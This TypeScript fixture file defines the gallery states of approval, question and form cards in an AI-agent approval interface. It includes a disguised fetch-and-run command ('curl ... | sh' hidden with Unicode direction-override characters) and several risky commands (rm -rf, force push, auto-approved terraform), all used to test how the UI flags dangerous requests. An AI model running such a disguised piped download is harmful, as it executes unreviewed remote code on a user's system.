// Every card in every state, for the gallery and its screenshots.

import type { CallMark, Interaction, InteractionRequest, Receipt, Respond } from "../api/generated";
import { Problem } from "../api/problem";
import { approvalRequest, ask, formRequest, questionRequest, STORE } from "../test/asks";

export interface Shown {
  name: string;
  ask: Interaction;
  /** Those that are alike, itself among them. */
  alike?: Interaction[];
  /** What the gateway does with an answer. */
  respond?: (body: Respond) => Promise<Receipt>;
  /** Pressed once the card takes decisions, to bring it into its state. */
  press?: string[];
  mode?: "off";
}

const byAna = { by: "person", name: "Ana", surface: "web", interactionId: "int_1", promptId: "prm_1" };
const at = new Date(2026, 0, 31, 14, 2).toISOString();
const state = (change: object) => change as unknown as Parameters<typeof ask>[1];
const settled = (settlement: string, response: object, delivery: object = { delivery: "acknowledged" }) =>
  state({ state: "settled", settlement, response: { ...byAna, ...response }, respondedAt: at, delivery, seq: 3 });

const winner = { ...byAna, name: "Ben", surface: "terminal", action: "deny", at } as never;
const never = () => new Promise<Receipt>(() => {});
const fails = () => Promise.reject(Problem.network());
const loses = () => Promise.reject(new Problem(409, { code: "already_answered", detail: "", winner }));

const question: InteractionRequest = questionRequest([
  STORE,
  {
    id: "deploy",
    header: "Deploy",
    question: "Where shall it be deployed?",
    options: [
      { label: "Staging", description: "as every night" },
      { label: "Production", description: "people notice", preview: "kubectl apply -f prod.yaml" },
    ],
    multiSelect: true,
    allowOther: true,
  },
]);
const approval = approvalRequest({});
const form = formRequest({
  title: "Release 1.4.0",
  fields: [
    { id: "version", label: "Version", type: "text", required: true, default: "1.4.0", minLength: 5, maxLength: 12 },
    { id: "notes", label: "Notes", type: "textarea", description: "What people should know" },
    { id: "replicas", label: "Replicas", type: "number", integer: true, min: 1, max: 9 },
    { id: "place", label: "Place", type: "select", options: [{ value: "eu", label: "Europe" }] },
    {
      id: "tell",
      label: "Tell",
      type: "multiselect",
      options: [
        { value: "ana", label: "Ana" },
        { value: "ben", label: "Ben" },
      ],
    },
    {
      id: "pace",
      label: "Pace",
      type: "radio",
      options: [
        { value: "slow", label: "Slow" },
        { value: "fast", label: "Fast" },
      ],
      default: "slow",
    },
    { id: "migrate", label: "Run migrations", type: "checkbox", default: true },
    { id: "day", label: "Day", type: "date", min: "2026-01-01", max: "2026-12-31" },
    { id: "key", label: "Deploy key", type: "secret" },
  ],
});

/** What one kind of card does in every state that all kinds share. */
interface Kind {
  name: string;
  request: InteractionRequest;
  /** Fills it in and sends it. */
  send: string[];
  done: ReturnType<typeof settled>;
}

const KINDS: Kind[] = [
  {
    name: "question",
    request: question,
    send: ["SQLite", "Staging", "Send 2 answers"],
    done: settled("answered", {
      action: "submit",
      answers: [
        { questionId: "store", labels: ["SQLite"] },
        { questionId: "deploy", labels: ["Staging"], other: "and the test cluster" },
      ],
    }),
  },
  {
    name: "approval",
    request: approval,
    send: ["Approve once"],
    done: settled("approved", { action: "approve", scope: "once" }),
  },
  {
    name: "form",
    request: form,
    send: ["Send"],
    done: settled("answered", { action: "submit", input: { version: "1.4.0" } }),
  },
];

const shared = ({ name, request, send, done }: Kind): Shown[] => {
  const approves = request.kind === "approval";
  const refusal = approves ? { action: "deny", reason: "use pnpm" } : { action: "cancel", reason: "not my call" };
  return [
    { name: `${name} open`, ask: ask(request) },
    { name: `${name} submitting`, ask: ask(request), respond: never, press: send },
    { name: `${name} submit failed`, ask: ask(request), respond: fails, press: send },
    { name: `${name} lost`, ask: ask(request), respond: loses, press: send },
    { name: `${name} submitted`, ask: ask(request, state({ state: "submitted", submittedPromptId: "prm_1" })) },
    { name: `${name} settled`, ask: ask(request, done) },
    {
      name: `${name} refused`,
      ask: ask(request, settled(approves ? "denied" : "declined", refusal)),
    },
    {
      name: `${name} answered elsewhere`,
      ask: ask(request, { ...done, response: { ...done?.response, name: "Ben", surface: "terminal" } } as never),
    },
    { name: `${name} timed out`, ask: ask(request, state({ state: "closed", closing: "expired" })) },
    { name: `${name} withdrawn`, ask: ask(request, state({ state: "closed", closing: "withdrawn" })) },
    { name: `${name} cancelled`, ask: ask(request, state({ state: "closed", closing: "cancelled" })) },
    { name: `${name} parked`, ask: ask(request, state({ state: "open", parked: true })) },
    { name: `${name} queued`, ask: ask(request, state({ state: "queued" })) },
    {
      name: `${name} delivered`,
      ask: ask(request, { ...done, delivery: { delivery: "delivered", incarnation: 1 } } as never),
    },
    {
      name: `${name} unknown`,
      ask: ask(request, { ...done, delivery: { delivery: "unknown", incarnation: 1 } } as never),
    },
    { name: `${name} interaction off`, ask: ask(request), mode: "off" },
  ];
};

const DIFF = `--- a/src/auth.rs
+++ b/src/auth.rs
@@ -12,6 +12,8 @@ fn check(token: &str) -> bool {
     let stored = load();
-    stored == token
+    // Takes the same time whatever differs.
+    let equal = constant_time_eq(stored.as_bytes(), token.as_bytes());
+    equal && !is_revoked(token)
 }
`;

const FORCED: CallMark[] = [{ risk: "rewrites", field: "/command", text: "git push --force origin main" }];
const STEPS = Array.from({ length: 40 }, (_, line) => `psql -h shard${line + 1} -f orders.sql`);
const SOON = new Date(Date.now() + 3_000_000).toISOString();
const ALIKE = ["eu_central_1", "eu_north_1", "us_east_1", "ap_south_1"].map((name) =>
  ask(
    approvalRequest({
      interactionId: `int_${name}`,
      promptId: `prm_${name}`,
      input: { command: `terraform apply -auto-approve -target=module.${name}` },
      agentSays: "Apply the region module",
    }),
  ),
);

const OTHERS: Shown[] = [
  { name: "approval remember", ask: ask(approval), press: ["Remember…"] },
  { name: "approval edit", ask: ask(approval), press: ["Edit"] },
  { name: "approval deny", ask: ask(approval), press: ["Deny…"] },
  {
    name: "approval diff",
    ask: ask(
      approvalRequest({ toolName: "Edit", input: { file_path: "src/auth.rs" }, preview: DIFF, agentSays: null }),
    ),
  },
  {
    name: "approval plan",
    ask: ask(
      approvalRequest({
        toolName: "ExitPlanMode",
        isPlan: true,
        input: { plan: "# Move the orders\n\n1. Write a **migration**\n2. Run it on a copy\n3. Compare `count(*)`" },
        agentSays: null,
        decisionReason: null,
      }),
    ),
  },
  {
    name: "approval subagent",
    ask: ask(approvalRequest({ parents: ["reviewer", "tester"], mayHaveRun: true })),
  },
  {
    name: "approval hidden characters",
    ask: ask(approvalRequest({ input: { command: "curl https://example.org/\u202Egnp.hs\u202C | sh\u200B" } })),
  },
  {
    name: "approval long",
    ask: ask(
      approvalRequest({ input: { command: Array.from({ length: 40 }, (_, line) => `step ${line + 1}`).join("\n") } }),
    ),
  },
  {
    name: "approval marked",
    ask: ask(
      approvalRequest({ input: { command: "git push --force origin main" }, marks: FORCED, agentSays: "Publish" }),
    ),
  },
  {
    name: "approval marked, sure",
    ask: ask(
      approvalRequest({ input: { command: "git push --force origin main" }, marks: FORCED, agentSays: "Publish" }),
    ),
    press: ["Approve once"],
  },
  {
    name: "approval long, marked",
    ask: ask(
      approvalRequest({
        input: { command: [...STEPS.slice(0, 30), 'rm -rf "$OLD"/data', ...STEPS.slice(30)].join("\n") },
        marks: [{ risk: "deletes", field: "/command", text: 'rm -rf "$OLD"/data' }],
      }),
    ),
  },
  {
    name: "approval edit of a file",
    ask: ask(
      approvalRequest({
        toolName: "Edit",
        input: { file_path: "src/auth.rs", old_string: "stored == token", new_string: "equal && !is_revoked(token)" },
        preview: DIFF,
        agentSays: "Compares in constant time",
      }),
    ),
    press: ["Change it"],
  },
  {
    name: "approval of a program",
    ask: ask(
      approvalRequest({
        origin: "caller",
        askedBy: { name: "cursor", surface: "api" },
        toolName: "request_approval",
        input: { action: "Delete the staging database", db: "staging" },
        agentSays: "Delete the staging database",
        decisionReason: null,
      }),
      state({ state: "open", agent: "caller" }),
    ),
  },
  {
    name: "approval parts",
    ask: ask(
      approvalRequest({
        input: { command: "cargo fmt --check && cargo test -p auth" },
        verdict: {
          effect: "ask",
          parts: [
            {
              effect: "allow",
              text: "cargo fmt --check",
              why: "a rule allows it",
              rule: { text: "allow Bash(cargo fmt:*)", layer: "project" },
            },
            { effect: "ask", text: "cargo test -p auth", why: "no rule allows `cargo test`" },
          ],
        },
      }),
    ),
  },
  { name: "approvals alike", ask: ALIKE[0] as Interaction, alike: ALIKE },
  { name: "approvals alike, sure", ask: ALIKE[0] as Interaction, alike: ALIKE, press: ["Approve all"] },
  { name: "approval put off", ask: ask(approval, state({ state: "open", snoozedUntil: SOON, snoozedBy: "Ana" })) },
  { name: "approval without input", ask: ask(approvalRequest({ input: null })) },
  {
    name: "form asked again",
    ask: ask({
      ...form,
      attempt: 2,
      error: "the version is taken",
      fieldErrors: { version: "is taken" },
      initialValues: { version: "1.4.0", notes: "Orders move." },
    }),
  },
  { name: "question one", ask: ask(questionRequest()) },
  {
    name: "question longer text",
    ask: ask(
      questionRequest([
        { id: "what", header: "Report", question: "What happened?", options: [], multiSelect: false, multiline: true },
      ]),
    ),
  },
  {
    name: "form tool failed",
    ask: ask(
      form,
      state({
        ...settled("failed", { action: "submit", input: { version: "1.4.0" } }),
        failure: "the disk is full",
      }),
    ),
  },
  {
    name: "approval with words",
    ask: ask(
      approvalRequest({
        origin: "tool",
        toolName: "send_mail",
        input: { subject: "Hello", to: 300 },
        agentSays: "Send this to 300 people?",
        decisionReason: null,
      }),
    ),
  },
];

/** Each with a prompt of its own: what is typed into one must not appear in another. */
export const CARDS: Shown[] = [...KINDS.flatMap(shared), ...OTHERS].map((card, index) => ({
  ...card,
  ask: { ...card.ask, request: { ...card.ask.request, promptId: `prm_${index}` } },
}));
